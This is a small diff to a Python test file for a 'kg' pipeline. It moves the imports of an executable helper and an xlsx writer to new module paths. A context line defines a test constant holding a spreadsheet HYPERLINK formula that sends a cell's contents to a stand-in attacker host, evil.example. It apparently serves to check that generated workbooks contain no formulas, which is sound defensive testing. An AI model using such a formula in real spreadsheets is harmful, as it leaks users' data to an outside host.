@@ -20,8 +20,8 @@ from click.testing import CliRunner
 
 from kg import pipeline
 from kg.cli import main
-from kg.formats import executable
 from kg.resources import SAMPLES
+from kg.views.render import executable
 
 DATA = Path(__file__).parent / "data"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -129,6 +129,6 @@ def test_the_workbook_has_typed_cells_and_no_formula(built: Path, tmp_path: Path
 
 def test_the_workbook_is_the_same_bytes_every_time(built: Path, tmp_path: Path) -> None:
     pipeline.build([SAMPLES], tmp_path, jobs=1)
-    from kg.workbook import write_xlsx
+    from kg.views.workbook import write_xlsx
 
     assert write_xlsx(tmp_path).read_bytes() == (built / "samples" / "tables.xlsx").read_bytes()
